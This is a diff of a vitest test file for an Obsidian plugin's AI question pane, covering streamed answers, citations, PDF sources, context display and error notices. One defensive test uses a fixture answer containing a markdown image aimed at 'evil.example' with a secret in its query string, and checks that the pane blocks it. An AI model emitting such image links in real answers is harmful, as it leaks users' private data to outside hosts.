@@ -1,15 +1,15 @@
 import { describe, expect, it } from "vitest";
-import type { AgentEvent } from "../src/events";
-import { Notice } from "../stub/obsidian";
-import { SidecarError } from "../src/client";
+import type { AgentEvent } from "../../src/generated/contract";
+import { Notice } from "../../stub/obsidian";
+import { SidecarError } from "../../src/client";
 import { done, loadPlugin, tick } from "./helpers";
 
 const ANSWER =
 	"You last fed the starter on [[Daily/2026-11-12|12 November]], see [[Recipes/Sourdough Starter#Feeding]] " +
 	"and [[papers/baking.pdf#page=3]].\n\nSources:\n- [[Daily/2026-11-12]]\n- [[Recipes/Sourdough Starter#Feeding]]";
 const SOURCES = [
-	{ file: "Daily/2026-11-12.md", title: "2026-11-12", heading: "" },
-	{ file: "Recipes/Sourdough Starter.md", title: "Sourdough Starter", heading: "Sourdough Starter > Feeding" },
+	{ file: "Daily/2026-11-12.md", title: "2026-11-12", heading: "", source: "vault", url: null },
+	{ file: "Recipes/Sourdough Starter.md", title: "Sourdough Starter", heading: "Sourdough Starter > Feeding", source: "vault", url: null },
 ];
 
 const RUN: AgentEvent[] = [
@@ -25,8 +25,10 @@ async function askedPane(script = RUN) {
 	const loaded = await loadPlugin(script);
 	await loaded.plugin.openAskView(null);
 	const streamed: string[] = [];
-	loaded.client.between = (event) => {
-		if (event.event === "delta") streamed.push(loaded.app.sidebarEl.querySelector(".vault-agent-stream")?.textContent ?? "");
+	loaded.client.between = async (event) => {
+		if (event.event !== "delta") return;
+		await new Promise((resolve) => setTimeout(resolve, 200)); // past the render throttle
+		streamed.push(loaded.app.sidebarEl.querySelector(".vault-agent-answer")?.textContent ?? "");
 	};
 	await loaded.view().ask("When did I last feed the starter?");
 	return { ...loaded, streamed, pane: loaded.app.sidebarEl };
@@ -37,16 +39,15 @@ function click(el: Element, init: MouseEventInit = {}, type = "click") {
 }
 
 describe("the pane", () => {
-	it("streams the answer's text, then shows the checked answer with its citations", async () => {
+	it("renders the answer as it streams, then shows the checked answer with its citations", async () => {
 		const { pane, streamed } = await askedPane();
 		expect(streamed).toEqual(["You last fed ", "You last fed the starter…"]);
 		const links = [...pane.querySelectorAll(".vault-agent-answer a.internal-link")].map((a) => a.getAttribute("data-href"));
 		expect(links).toEqual(["Daily/2026-11-12", "Recipes/Sourdough Starter#Feeding", "papers/baking.pdf#page=3"]);
 		expect(pane.querySelector(".vault-agent-answer")?.textContent).not.toContain("Sources:");
-		expect(pane.querySelector(".vault-agent-stream")?.textContent).toBe("");
 	});
 
-	it("lists the sources from done.sources, labelled by note and section", async () => {
+	it("lists the sidecar's Sources as it wrote them, labelled by note and section", async () => {
 		const { pane } = await askedPane();
 		const sources = [...pane.querySelectorAll(".vault-agent-sources a.internal-link")];
 		expect(sources.map((a) => [a.textContent, a.getAttribute("data-href")])).toEqual([
@@ -81,10 +82,11 @@ describe("the pane", () => {
 	});
 
 	it("opens a PDF source at its page: the Sources entry links to #page=N", async () => {
-		const pdf = { file: "papers/baking.pdf", title: "baking", heading: "Page 3" };
-		const { pane, app } = await askedPane([done("Bake at 240 °C [[papers/baking.pdf#page=3]].", [pdf])]);
+		const pdf = { file: "papers/baking.pdf", title: "baking", heading: "Page 3", source: "vault", url: null };
+		const answer = "Bake at 240 °C [[papers/baking.pdf#page=3]].\n\nSources:\n- [[papers/baking.pdf#page=3]]";
+		const { pane, app } = await askedPane([done(answer, [pdf])]);
 		const source = pane.querySelector(".vault-agent-sources a.internal-link")!;
-		expect([source.textContent, source.getAttribute("data-href")]).toEqual(["baking › Page 3", "papers/baking.pdf#page=3"]);
+		expect([source.textContent, source.getAttribute("data-href")]).toEqual(["baking.pdf › Page 3", "papers/baking.pdf#page=3"]);
 		click(source);
 		click(pane.querySelector(".vault-agent-answer a.internal-link")!);
 		expect(app.opened.map((o) => o.linktext)).toEqual(["papers/baking.pdf#page=3", "papers/baking.pdf#page=3"]);
@@ -99,7 +101,7 @@ describe("the pane", () => {
 	});
 
 	it("shows no remote image, and counts what the sidecar and the pane left out", async () => {
-		// The stub renders markdown images only: hostile.test.ts renders raw HTML and references.
+		// The stub renders markdown images only: turn.test.ts renders raw HTML and references.
 		const answer = "Look ![chart](https:/evil.example/c.png?d=secret) and ![ok](attachments/a.png) at [[Daily/2026-11-12]].";
 		const { pane } = await askedPane([done(answer, [], { removed_images: ["https://evil.example/r.png"] })]);
 		expect(Array.from(pane.querySelectorAll("img")).map((img) => img.getAttribute("src"))).toEqual(["attachments/a.png"]);
@@ -124,7 +126,13 @@ describe("the pane", () => {
 			],
 			profile: "extractive",
 		});
-		expect(loaded.app.sidebarEl.querySelector(".vault-agent-context")?.textContent).toBe("Context: Kyoto Trip and 2 linked notes");
+		const context = loaded.app.sidebarEl.querySelector("details.vault-agent-context")!;
+		expect(context.querySelector("summary")?.textContent).toBe("Context: Kyoto Trip and 2 linked notes");
+		expect([...context.querySelectorAll("li")].map((li) => li.textContent)).toEqual([
+			"Projects/Kyoto Trip.md (open note)",
+			"People/Tomás Ferreira.md (linked from it)",
+			"Daily/2026-11-12.md (links to it)",
+		]);
 	});
 
 	it("sends earlier turns as history until a new conversation starts", async () => {
@@ -152,7 +160,8 @@ describe("the pane", () => {
 		};
 		await loaded.view().ask("q");
 		expect(pane.querySelector(".vault-agent-stopped")?.textContent).toBe("Stopped.");
-		expect(pane.querySelector(".vault-agent-answer")?.textContent).toBe("");
+		// The partial answer stays, rendered in full.
+		expect(pane.querySelector(".vault-agent-answer")?.textContent).toBe("You last fed ");
 		expect((pane.querySelector("button.vault-agent-ask") as HTMLButtonElement).disabled).toBe(false);
 	});
 
@@ -160,17 +169,20 @@ describe("the pane", () => {
 		const failing = await loadPlugin([{ event: "error", code: "model_unavailable", message: "Ollama is not running." }]);
 		await failing.plugin.openAskView(null);
 		await failing.view().ask("q");
-		expect(failing.app.sidebarEl.querySelector(".vault-agent-error")?.textContent).toBe("Ollama is not running.");
+		expect(failing.app.sidebarEl.querySelector(".vault-agent-error-text")?.textContent).toBe("Ollama is not running.");
 
 		const down = await loadPlugin();
 		down.client.script = () => Promise.reject(new SidecarError("unreachable", "connection refused"));
 		await down.plugin.openAskView(null);
 		await down.view().ask("q");
 		expect(Notice.shown.at(-1)).toMatch(/not running at http:\/\/127\.0\.0\.1:8765/);
-		down.client.script = () => Promise.reject(new SidecarError("unauthorized", "wrong token", 401));
+		down.client.script = () => Promise.reject(new SidecarError("unauthorized", "wrong token", 401, "invalid_token"));
+		await down.view().ask("q");
+		expect(Notice.shown.at(-1)).toMatch(/^No token set/); // none in the settings
+		down.plugin.settings.token = "wrong";
 		await down.view().ask("q");
 		expect(Notice.shown.at(-1)).toMatch(/rejected the token/);
-		expect(down.app.sidebarEl.querySelectorAll(".vault-agent-error")).toHaveLength(2);
+		expect(down.app.sidebarEl.querySelectorAll(".vault-agent-error")).toHaveLength(3);
 	});
 
 	it("asks with Enter, and keeps Shift+Enter for a new line", async () => {
